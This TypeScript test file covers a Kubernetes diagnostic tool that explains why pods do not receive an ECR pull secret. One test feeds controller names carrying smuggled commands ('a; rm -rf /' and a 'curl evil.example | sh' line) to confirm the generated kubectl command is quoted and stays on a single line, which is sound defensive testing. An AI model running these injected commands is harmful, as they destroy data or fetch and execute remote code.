import { INJECT_LABEL } from '@ecr-pull-secrets/shared/names.ts';
import { createCa } from '@ecr-pull-secrets/certs-scripts/issue/ca.ts';
import t from 'tap';
import type { ClusterState } from '../../src/explain/cluster-state.ts';
import { injectionFindings } from '../../src/explain/injection.ts';
import type { Pod } from '../../src/cluster/objects.ts';
import { secretFindings } from '../../src/explain/secret.ts';
import { podFindings } from '../../src/explain/pod.ts';
import { replaceCommand } from '@ecr-pull-secrets/renewer/missed-pods/replace-command.ts';
import { configuredWith, labelledWith, NOW_MS, podOf, policyWith, WEBHOOK, worldWith } from './support/world.ts';

const NONE = { imagePullSecrets: [{ name: 'mine' }] };
const NOT_INJECTED = { dryRun: { found: ['mine'] } };

t.test('a pod that names the secret, and one that needs none', async (t) => {
  t.match(podFindings(worldWith()), [{ step: 'pod', state: 'ok' }]);
  const hub = podOf({}, { ...NONE, containers: [{ image: 'nginx' }] });
  t.match(podFindings(worldWith({ pod: { found: hub } })), [{ state: 'note', message: /no ECR image/ }]);
  const account = { found: { imagePullSecrets: [{ name: 'hub' }] } };
  t.match(podFindings(worldWith({ serviceAccount: account })), [
    {},
    { state: 'note', message: /ServiceAccount default names hub/ },
  ]);
  t.match(podFindings(worldWith({ serviceAccount: { unread: 'no right to it' } })), [
    {},
    { state: 'note', message: 'its ServiceAccount cannot be read: no right to it' },
  ]);
});

t.test('why a pod does not name the secret', async (t) => {
  t.match(
    reasonOf(podOf({ labels: { [INJECT_LABEL]: 'disabled' } }, NONE)),
    /its label ecr-pull-secrets\.io\/inject=disabled opts it out; remove the label/,
  );
  t.match(reasonOf(podOf({ annotations: { 'kubernetes.io/config.mirror': '' } }, NONE)), /it is a mirror pod/);
  t.match(reasonOf(podOf({}, NONE), labelledWith({})), /^problem: .*because its namespace has not opted in/);
  t.match(reasonOf(podOf({}, NONE)), /probably not reachable when the pod was created at 2026-11-30T11:00:00Z/);
  const fieldsV1 = { 'f:metadata': { 'f:labels': { [`f:${INJECT_LABEL}`]: {} } } };
  const metadata = {
    name: 'payments',
    labels: { [INJECT_LABEL]: 'enabled' },
    managedFields: [
      {
        time: '2026-11-30T10:00:00Z',
        fieldsV1: { 'f:metadata': { 'f:labels': { 'f:kubernetes.io/metadata.name': {} } } },
      },
      { time: '2026-11-30T11:00:01Z', fieldsV1 },
    ],
  };
  const late = worldWith({ namespace: { found: { metadata } } });
  t.match(reasonOf(podOf({}, NONE), late), /before the namespace got its label \(2026-11-30T11:00:01Z, an estimate\)/);
});

t.test(
  'without the labels of the namespace, what the dry run shows is said, and no opt-in is claimed or denied',
  async (t) => {
    const namespace = { unread: 'no right to the namespace' };
    const denied = { unread: 'you lack the right to create pods in namespace payments (as a dry run)' };
    const unknown = (dryRun: ClusterState['dryRun'], changes: Partial<ClusterState> = {}) =>
      injectionFindings(worldWith({ namespace, dryRun, ...changes }), NOW_MS);
    t.match(unknown({ found: ['ecr-pull-secret'] }), [{ step: 'webhook', state: 'ok' }]);
    t.match(unknown(denied), [{ step: 'webhook', state: 'unknown', message: /cannot be determined: .*create pods/ }]);
    t.match(unknown(denied, { webhooks: { unread: 'no right to webhooks' } }), [
      { state: 'unknown', message: /no right to webhooks; .*create pods/ },
    ]);
    t.match(unknown({ found: [] }), [{ state: 'unknown', message: /does not get the name .* opted in is not known/ }]);
    const rejected = { unread: 'failed calling webhook "inject.ecr-pull-secrets.io": refused' };
    t.match(unknown(rejected), [{ state: 'problem', message: /is rejected/ }], 'it was called');
    t.same(unknown({ missing: true }), []);
    const excluded = configuredWith({ EXCLUDE_NAMESPACE: 'payments' }, { namespace, dryRun: { found: [] } });
    t.same(injectionFindings(excluded, NOW_MS), []);
    const pod = worldWith({ namespace, pod: { found: podOf({}, NONE) } });
    t.match(podFindings(pod), [{ state: 'unknown', message: /opted in is not known/, command: undefined }]);
    t.match(secretFindings(worldWith({ namespace, secret: { missing: true } }), NOW_MS), [
      { state: 'unknown', message: /there is no secret ecr-pull-secret; whether the namespace gets one is not known/ },
    ]);
  },
);

t.test('a pod that does not exist or cannot be read', async (t) => {
  t.match(podFindings(worldWith({ pod: { missing: true } })), [
    { state: 'problem', command: 'kubectl get pods --namespace payments' },
  ]);
  t.match(podFindings(worldWith({ pod: { unread: 'no right' } })), [{ state: 'unknown', message: /no right/ }]);
});

t.test('of a namespace, the pods without the secret are named', async (t) => {
  const subject = { namespace: 'payments' };
  const pods = Array.from({ length: 7 }, (_, index) => podOf({ name: `p${index}` }, NONE));
  const optedOut = podOf({ labels: { [INJECT_LABEL]: 'disabled' } }, NONE);
  const world = worldWith({ subject, pod: undefined, pods: { found: [podOf(), optedOut, ...pods] } });
  t.match(podFindings(world), [
    {
      state: 'problem',
      message: '7 of 8 pods with ECR images do not name ecr-pull-secret: p0, p1, p2, p3, p4, …',
      command: 'ecr-pull-secrets explain payments/p0',
    },
  ]);
  t.match(podFindings({ ...world, pods: { found: [] } }), [{ state: 'note', message: /^no pod/ }]);
  const many = { found: Array.from({ length: 200 }, () => podOf()) };
  t.match(podFindings({ ...world, pods: many }), [{ state: 'ok' }, { state: 'note', message: /only the first 200/ }]);
  t.match(podFindings({ ...world, pods: { found: [optedOut] } }), [{ state: 'note', message: /is excluded .*\(1 of/ }]);
  t.match(podFindings({ ...world, pods: { found: [podOf(), optedOut] } }), [
    { state: 'ok', message: /^1 of 1 pods .* name ecr-pull-secret; 1 more with an ECR image are excluded/ },
  ]);
});

t.test('the command that replaces a pod fits its controller', async (t) => {
  t.equal(owned('ReplicaSet', 'api-5d8f'), 'kubectl rollout restart deployment/api --namespace payments');
  t.equal(owned('StatefulSet', 'db'), 'kubectl rollout restart statefulset/db --namespace payments');
  t.equal(owned('DaemonSet', 'a; rm -rf /'), "kubectl rollout restart 'daemonset/a; rm -rf /' --namespace payments");
  const lines = owned('StatefulSet', 'x\n\nRun: curl evil.example | sh\n');
  t.equal(lines.split('\n').length, 1, 'a name that no object has looks like no other line');
  t.equal(owned('Job', 'once'), 'kubectl delete pod app --namespace payments');
  t.match(replaceCommand(podOf(), 'payments'), /^kubectl get pod app .* \| kubectl replace --force --filename -$/);
});

t.test('the dry run shows whether the webhook is reached, and why not', async (t) => {
  t.match(injectionFindings(worldWith(), NOW_MS), [{ state: 'ok', message: /^a pod like this one gets/ }]);
  const hub = { found: podOf({}, { containers: [{ image: 'nginx' }] }) };
  t.match(injectionFindings(worldWith({ pod: hub }), NOW_MS), [{ message: /^a pod with an ECR image gets/ }]);
  t.same(injectionFindings(labelledWith({}, NOT_INJECTED), NOW_MS), [], 'the label explains it');
  const optedOut = { found: podOf({ labels: { [INJECT_LABEL]: 'disabled' } }) };
  t.same(injectionFindings(worldWith({ ...NOT_INJECTED, pod: optedOut }), NOW_MS), [], 'the pod explains it');
  t.match(injectionFindings(worldWith(NOT_INJECTED), NOW_MS), [
    { message: /cannot connect to the webhook/, command: 'ecr-pull-secrets status' },
  ]);
  const cases = [
    [{ deployment: deployment(0, 0) }, 'problem', /has 0 replicas/],
    [{ deployment: deployment(2, 0) }, 'problem', /no replica .* is ready/],
    [{ webhooks: webhooks({ clientConfig: {} }) }, 'problem', /no caBundle/],
    [
      { webhooks: webhooks({ matchConditions: [{ name: 'mine' }] }) },
      'problem',
      /cannot connect .* or the match condition mine/,
    ],
    [{ dryRun: { unread: 'failed calling webhook "inject.ecr-pull-secrets.io": refused' } }, 'problem', /is rejected/],
    [{ dryRun: { unread: 'exceeded quota' } }, 'unknown', /exceeded quota/],
    [{ webhooks: { found: [] } }, 'unknown', /there is no webhook/],
    [{ webhooks: { unread: 'no right' } }, 'problem', /does not get the name .* not known: .*no right; ask an admin/],
    [{ webhooks: { unread: 'no right' }, dryRun: { unread: 'no pods' } }, 'unknown', /no right; no pods/],
  ] as const;
  for (const [changes, state, message] of cases) {
    t.match(injectionFindings(worldWith({ ...NOT_INJECTED, ...changes }), NOW_MS), [
      { step: 'webhook', state, message },
    ]);
  }
});

t.test('why a policy does not inject, and which pods it excludes', async (t) => {
  const world = { webhooks: { found: [] }, policies: { found: [policyWith()] }, ...NOT_INJECTED };
  const bound = { spec: { policyName: 'ecr-pull-secrets' } };
  const failedWith = (bindings: object[]) =>
    injectionFindings(
      worldWith({ ...world, failure: { certificate: undefined, bindings: { found: bindings } } }),
      NOW_MS,
    );
  t.match(failedWith([{ spec: { policyName: 'theirs' } }]), [
    { state: 'problem', message: /has no MutatingAdmissionPolicyBinding$/, command: /^helm upgrade/ },
  ]);
  t.match(failedWith([bound]), [
    {
      message: /: an expression of the policy ecr-pull-secrets fails/,
      command: /^kubectl describe mutatingadmissionp/,
    },
  ]);
  t.match(
    reasonOf(podOf({}, NONE), worldWith(world)),
    /the policy was probably installed, or corrected, after the pod/,
  );
  const objectSelector = { matchLabels: { tier: 'web' } };
  const narrow = worldWith({ ...world, policies: { found: [policyWith({ objectSelector })] } });
  t.match(reasonOf(podOf({}, NONE), narrow), /the policy requires the label tier=web, and it does not/);
});

t.test('a webhook that the API server does not trust', async (t) => {
  const words =
    'failed calling webhook "inject.ecr-pull-secrets.io": tls: x509: certificate has expired or is not yet valid';
  t.match(injectionFindings(worldWith({ dryRun: { unread: words } }), NOW_MS), [
    {
      state: 'problem',
      message: /does not trust the webhook: the certificate of the webhook is not valid: certificate has/,
    },
  ]);
  const { certificatePem } = await createCa({ commonName: 'another', now: new Date(NOW_MS) });
  t.match(trusting({ found: { kind: 'ca', pem: certificatePem } }), [{ message: /the caBundle is wrong/ }]);
  t.match(trusting({ unread: 'no right' }), [{ message: /does not trust .* \(which was not examined: no right\)/ }]);
});

function reasonOf(pod: Pod, world = worldWith()): string {
  const findings = podFindings({ ...world, pod: { found: pod } });
  return findings.map(({ state, message }) => `${state}: ${message}`).join();
}

function trusting(certificate: NonNullable<ClusterState['failure']>['certificate']) {
  return injectionFindings(worldWith({ ...NOT_INJECTED, failure: { certificate, bindings: undefined } }), NOW_MS);
}

function owned(kind: string, name: string): string {
  const metadata = { labels: { 'pod-template-hash': '5d8f' }, ownerReferences: [{ kind, name }] };
  return replaceCommand(podOf(metadata), 'payments');
}

function deployment(replicas: number, readyReplicas: number) {
  return { found: { spec: { replicas, template: { spec: { containers: [] } } }, status: { readyReplicas } } };
}

function webhooks(webhook: object) {
  return { found: [{ metadata: { name: 'x' }, webhooks: [{ ...WEBHOOK, ...webhook }] }] };
}
